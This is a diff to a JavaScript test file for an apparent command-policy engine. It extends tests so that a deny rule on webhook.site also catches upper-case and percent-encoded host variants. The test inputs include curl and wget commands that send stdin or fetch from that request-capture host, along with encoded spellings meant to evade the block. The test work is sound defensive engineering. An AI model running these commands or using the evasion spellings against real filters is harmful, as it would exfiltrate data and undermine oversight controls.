@@ -103,8 +103,8 @@ policies:
       - action: deny
         when: { command_matches: ['*webhook.site*'] }
 `);
-  it('a restrictive rule sees a URL with its scheme and host in lower case, as DNS reads them', () => {
-    for (const cmd of ['curl https://WEBHOOK.SITE/x', 'curl -d @- HTTPS://Webhook.Site/Abc', 'cd src && wget http://user@WebHook.site:80/a']) {
+  it('a restrictive rule sees a URL with its scheme and host in lower case and percent-escapes decoded, as DNS reads them', () => {
+    for (const cmd of ['curl https://WEBHOOK.SITE/x', 'curl -d @- HTTPS://Webhook.Site/Abc', 'cd src && wget http://user@WebHook.site:80/a', 'curl https://webhook%2esite/x', 'curl https://WEBHOOK%2ESITE/x', 'curl https://%77ebhook.site/x']) {
       assert.equal(act(set, cmd), 'deny', cmd);
     }
   });
@@ -112,5 +112,6 @@ policies:
     assert.equal(act(set, 'curl https://example.com/WEBHOOK.SITE'), 'allow', 'a path keeps its case');
     assert.equal(act(set, 'curl https://API.example.com/webhook.sitemap'), 'deny');
     assert.equal(act(set, 'curl https://API.example.com/x'), 'allow');
+    assert.equal(act(set, 'curl https://example.com%zz/x'), 'allow', 'a malformed escape is kept as written');
   });
 });
